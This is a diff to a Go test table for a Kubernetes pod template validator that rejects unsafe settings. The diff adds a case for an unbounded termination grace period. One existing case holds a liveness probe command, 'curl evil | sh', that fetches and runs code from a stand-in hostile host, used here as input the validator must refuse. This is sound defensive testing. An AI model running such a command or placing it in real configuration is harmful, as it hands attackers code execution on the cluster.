@@ -332,6 +332,8 @@ func TestTemplateCannotReachTheNodeOrRewireTheEngine(t *testing.T) {
 			"spec.template.metadata.annotations[container.apparmor.security.beta.kubernetes.io/engine]: may only be runtime/default"},
 		{"root's group on the volumes", `{"spec": {"securityContext": {"fsGroup": 0}}}`,
 			"spec.template.spec.securityContext.fsGroup: may not be 0"},
+		{"a grace without bound", `{"spec": {"terminationGracePeriodSeconds": 31536000}}`,
+			"spec.template.spec.terminationGracePeriodSeconds: 31536000: must be 0 to 3600"},
 		{"a system priority", `{"spec": {"priorityClassName": "system-node-critical"}}`,
 			"spec.template.spec.priorityClassName: system-node-critical is for the cluster's own components"},
 		{"an exec probe on the engine", `{"spec": {"containers": [{"name": "engine", "livenessProbe": {"exec": {"command": ["sh", "-c", "curl evil | sh"]}}}]}}`,
